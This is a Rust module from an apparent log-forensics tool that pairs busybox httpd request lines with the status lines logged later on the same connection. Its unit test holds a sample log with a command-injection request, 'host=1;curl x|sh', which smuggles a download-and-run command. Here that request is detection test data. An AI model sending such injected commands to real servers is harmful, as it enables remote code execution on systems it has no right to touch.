//! Statuses a server logs on a later line of the same connection (busybox httpd `-v`:
//! `[::ffff:IP]:PORT: url:/x` then `[::ffff:IP]:PORT: response:404`), read back for the hits
//! that lack one: one bounded streaming pass over each artifact that has such hits, from the
//! first such hit on, looking only a window past each, never a whole line held beyond a short
//! prefix.

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader};

use super::http::status_line;
use super::stream::SourceScan;
use crate::evidence::Artifact;

/// How far past a hit its status line is looked for.
const WINDOW: u64 = 1 << 20;
/// Bytes of a line kept for matching (the status is at its start, or inside a json-file record).
const LINE_PREFIX: usize = 512;

/// Give every hit whose request names a connection and no status the status a later line of
/// that connection reports, within [`WINDOW`] bytes of its own artifact (read directly, not
/// through a tar).
pub(crate) fn attach_statuses(sources: &mut [SourceScan], artifacts: &[&Artifact]) {
    let mut wanted: BTreeMap<&str, Vec<(u64, String)>> = BTreeMap::new();
    for s in sources.iter() {
        for h in &s.scan.hits {
            let Some(q) = h.found.http.as_ref().filter(|q| q.status.is_none()) else { continue };
            let (Some(conn), Some(off)) = (q.connection.as_deref(), h.locator.offset) else { continue };
            if h.locator.members.is_empty() {
                wanted.entry(h.locator.artifact.as_str()).or_default().push((off, conn.to_string()));
            }
        }
    }
    let mut found: BTreeMap<(String, u64), u16> = BTreeMap::new();
    for (path, mut pending) in wanted {
        let Some(a) = artifacts.iter().find(|a| a.path == path) else { continue };
        pending.sort();
        for (off, status) in statuses(a, &pending) {
            found.insert((path.to_string(), off), status);
        }
    }
    if found.is_empty() {
        return;
    }
    for s in sources.iter_mut() {
        for h in &mut s.scan.hits {
            let Some(off) = h.locator.offset else { continue };
            if let Some(st) = found.get(&(h.locator.artifact.clone(), off)) {
                if let Some(q) = h.found.http.as_mut().filter(|q| q.status.is_none()) {
                    q.status = Some(*st);
                }
            }
        }
    }
}

/// The status of each pending `(offset, connection)`, from one pass over the artifact.
fn statuses(a: &Artifact, pending: &[(u64, String)]) -> Vec<(u64, u16)> {
    // From the first hit's line on: a plain file seeks there, a compressed one is skipped to it.
    let first = pending.first().map(|p| p.0).unwrap_or(0);
    let Ok(reader) = a.open_at(first) else { return vec![] };
    let mut r = BufReader::with_capacity(64 * 1024, reader);
    let mut out = vec![];
    let mut open: Vec<&(u64, String)> = vec![];
    let mut next = 0usize;
    let mut pos: u64 = first;
    let mut line: Vec<u8> = Vec::with_capacity(LINE_PREFIX);
    let last = pending.last().map(|p| p.0 + WINDOW).unwrap_or(0);
    loop {
        // One line: its first LINE_PREFIX bytes kept, the rest skipped.
        line.clear();
        let start = pos;
        let mut ended = false;
        while !ended {
            let buf = match r.fill_buf() {
                Ok(b) if !b.is_empty() => b,
                _ => break,
            };
            let (take, done) = match memchr::memchr(b'\n', buf) {
                Some(i) => (i + 1, true),
                None => (buf.len(), false),
            };
            let room = LINE_PREFIX.saturating_sub(line.len()).min(take);
            line.extend_from_slice(&buf[..room]);
            r.consume(take);
            pos += take as u64;
            ended = done;
        }
        if pos == start {
            break;
        }
        while next < pending.len() && pending[next].0 <= start {
            open.push(&pending[next]);
            next += 1;
        }
        open.retain(|o| start <= o.0 + WINDOW);
        if !open.is_empty() {
            if let Some((conn, status)) = status_line(&line) {
                if let Some(i) = open.iter().position(|o| o.1 == conn && o.0 < start) {
                    out.push((open[i].0, status));
                    open.remove(i);
                }
            }
        }
        if (next == pending.len() && open.is_empty()) || start > last {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn status_from_a_later_line_of_the_same_connection() {
        let dir = tempfile::tempdir().unwrap();
        let log = "[::ffff:203.0.113.50]:40000: url:/cgi-bin/ping?host=1;curl x|sh\n\
                   [::ffff:198.51.100.9]:40001: url:/\n\
                   [::ffff:198.51.100.9]:40001: response:200\n\
                   [::ffff:203.0.113.50]:40000: response:404\n";
        std::fs::write(dir.path().join("httpd.log"), log).unwrap();
        let b = crate::evidence::discover(dir.path());
        let a = &b.artifacts[0];
        let got = statuses(a, &[(0, "[::ffff:203.0.113.50]:40000".into())]);
        assert_eq!(got, vec![(0, 404)]);
        let second = log.find("[::ffff:198").unwrap() as u64;
        let got = statuses(a, &[(second, "[::ffff:198.51.100.9]:40001".into())]);
        assert_eq!(got, vec![(second, 200)]);
    }
}
